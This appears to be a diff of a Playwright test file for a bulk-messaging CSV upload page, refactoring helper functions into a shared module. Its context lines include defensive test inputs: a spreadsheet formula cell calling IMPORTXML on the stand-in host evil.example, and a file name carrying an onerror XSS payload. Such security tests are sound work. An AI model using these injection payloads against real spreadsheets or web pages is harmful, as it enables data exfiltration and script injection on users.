@@ -5,6 +5,7 @@ import path from 'node:path';
 import type { Page } from '@playwright/test';
 import { expect, test } from '../fixtures.ts';
 import { userWithSession } from './messaging-helpers.ts';
+import { contactsTable, onEmptyBulkPage, uploadList, uploadResult } from './support/bulk.ts';
 import { observeLongTasks } from './support/long-tasks.ts';
 
 /**
@@ -13,19 +14,6 @@ import { observeLongTasks } from './support/long-tasks.ts';
  * over 200 ms (it is parsed in a Web Worker) and the page answers after it, and
  * binary data named .csv ends in a clear message. Figures go to the console.
  */
-
-const uploadResult = (page: Page) => page.getByRole('status', { name: 'Upload result' });
-const contactsTable = (page: Page) => page.getByRole('table', { name: 'Select Phone Numbers' });
-
-async function uploadCsv(page: Page, name: string, content: string | Buffer) {
-  const chooser = page.waitForEvent('filechooser');
-  await page.getByRole('button', { name: 'Upload CSV' }).click();
-  await (await chooser).setFiles({
-    name,
-    mimeType: 'text/csv',
-    buffer: typeof content === 'string' ? Buffer.from(content, 'utf8') : content,
-  });
-}
 
 /** Records the longest gap between timer ticks: how long the page's main thread was blocked. */
 async function watchMainThread(page: Page) {
@@ -56,9 +44,7 @@ test('formula cells and markup in cells, names and the file name are neither run
   page,
   request,
 }) => {
-  await userWithSession(page, request, { credits: 10 });
-  await page.goto('/#/bulkmessage');
-  await expect(page.getByText('No contacts uploaded')).toBeVisible();
+  await onEmptyBulkPage(page, request, 10);
 
   const csv = [
     'phone,name',
@@ -72,7 +58,7 @@ test('formula cells and markup in cells, names and the file name are neither run
     '\t919876500005,"=IMPORTXML(""http://evil.example"",""//a"")"',
   ].join('\n');
   const name = '<img src=x onerror="window.__xss=4">.csv';
-  await uploadCsv(page, name, csv);
+  await uploadList(page, name, csv);
 
   await expect(uploadResult(page)).toHaveText(
     // libphonenumber-js reads the number inside '<b>…</b>' (contract/phone.ts, the server's rule too).
@@ -97,9 +83,7 @@ test('binary data named .csv ends in a clear message, and the page still answers
   page,
   request,
 }) => {
-  await userWithSession(page, request, { credits: 10 });
-  await page.goto('/#/bulkmessage');
-  await expect(page.getByText('No contacts uploaded')).toBeVisible();
+  await onEmptyBulkPage(page, request, 10);
   const blocked = await watchMainThread(page);
 
   // A PNG header, NUL bytes and 2 MB of seeded noise.
@@ -110,7 +94,7 @@ test('binary data named .csv ends in a clear message, and the page still answers
   }
   Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]).copy(bytes, 0);
   const started = Date.now();
-  await uploadCsv(page, 'photo.csv', bytes);
+  await uploadList(page, 'photo.csv', bytes);
 
   const message = page.getByRole('alert').or(uploadResult(page));
   await expect(message).toBeVisible({ timeout: 30_000 });
